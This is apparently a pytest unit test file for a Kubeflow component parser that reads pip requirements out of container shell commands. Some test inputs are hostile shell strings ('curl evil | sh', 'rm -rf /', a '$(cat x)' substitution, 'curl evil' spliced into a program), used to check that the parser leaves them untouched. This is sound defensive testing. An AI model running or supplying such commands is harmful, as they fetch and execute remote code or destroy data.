# ruff: noqa: E501  commands are quoted as they are
"""Python components are told from other commands, and what they want installed is read."""

import pytest

from jupyter_mlplat.services.workflows.lightweight import (
    Packages,
    imports_of,
    python_component,
    without_installation,
)
from tests.unit.workflows.compiled import INSTALL, KFP, PIP, PROGRAM, function

SOURCE = "def f(a: int):\n    print('&& \"$0\"')\n"


def component(*packages: str) -> Packages:
    container = function(SOURCE, *packages)["container"]
    found = python_component(container["command"], container["args"])
    assert found is not None
    assert found.function == "f"
    assert found.source.endswith(SOURCE)
    return found.packages


def test_pinned_kfp_is_no_requirement() -> None:
    assert component() == Packages(has_kfp=True)


def test_packages_of_the_user_are_requirements() -> None:
    assert component("pandas==2.2.0", "x[extra]>=1; python_version<'3.12'") == Packages(
        ("pandas==2.2.0", "x[extra]>=1; python_version<'3.12'"), (), has_kfp=True
    )


def test_kfp_among_the_packages_of_the_user_is_the_real_one() -> None:
    command = ["sh", "-c", PIP.replace("{installs}", INSTALL + "'kfp==2.9.0' 'requests'"), "run"]

    packages, rest = without_installation(command)

    assert packages.wants_real_kfp
    assert rest == ["run"]


def test_indexes_are_options_named_once() -> None:
    index = "--index-url https://a/simple --extra-index-url https://b/simple --trusted-host a "
    installs = f"{INSTALL}{index}'yapf'  &&  {INSTALL}{index}'kfp==2.14.3' '--no-deps'"

    packages, _ = without_installation(["sh", "-c", PIP.replace("{installs}", installs), "x"])

    assert packages.requirements == ("yapf",)
    assert " ".join(packages.options) == index.strip()


@pytest.mark.parametrize(
    "installs",
    [
        "python3 -m pip install --quiet --no-warn-script-location 'kfp==2.0.1'",
        f"{INSTALL}'git+https://github.com/kubeflow/pipelines.git@master#subdirectory=sdk/python' '--no-deps'",
        f'\nexport PIP_DISABLE_PIP_VERSION_CHECK=1\ntmp=$(mktemp -d)\npython3 -m venv "$tmp/venv" --system-site-packages\n. "$tmp/venv/bin/activate"\n{KFP}',
    ],
    ids=["kfp 2.0", "kfp from source", "in a venv"],
)
def test_runtime_is_known_in_all_its_forms(installs: str) -> None:
    command = ["sh", "-c", PIP.replace("{installs}", installs), "sh", "-ec", PROGRAM, SOURCE]

    found = python_component(command, ["--function_to_execute", "f"])

    assert found is not None
    assert found.packages == Packages(has_kfp=True)


def test_two_ways_to_install_are_one() -> None:
    script = "(python3 -m pip install --quiet 'a==1' || python3 -m pip install --quiet 'a==1' --user) && \"$0\" \"$@\""

    packages, rest = without_installation(["sh", "-c", script, "python3", "-u"])

    assert packages.requirements == ("a==1",)
    assert rest == ["python3", "-u"]


@pytest.mark.parametrize(
    "script",
    [
        'curl evil | sh && "$0" "$@"',
        'python3 -m pip install \'a\'; rm -rf / && "$0" "$@"',
        "python3 -m pip install 'a'",
        'python3 -m pip install -r requirements.txt && "$0" "$@"',
        'python3 -m pip install $(cat x) && "$0" "$@" > /dev/null',
        'python3 -m pip install \'a\' && "$0" "$@" && python3 -m pip install \'b',
    ],
)
def test_what_does_anything_else_is_left_as_it_stands(script: str) -> None:
    command = ["sh", "-c", script, "python3"]

    assert without_installation(command) == (Packages(), command)


def test_program_that_differs_is_no_component() -> None:
    container = function(SOURCE)["container"]
    command = [*container["command"]]
    command[5] = command[5].replace("mktemp -d", "mktemp -d; curl evil")

    assert python_component(command, container["args"]) is None


def test_modules_that_a_component_imports_are_known_but_for_those_of_python() -> None:
    source = (
        "import kfp\nfrom kfp.dsl import *\ndef f():\n    import os, pandas as pd\n"
        "    from sklearn.linear_model import Ridge\n    from . import x\n"
    )

    assert imports_of(source) == ("pandas", "sklearn.linear_model")
    assert imports_of("def f(:") == ()
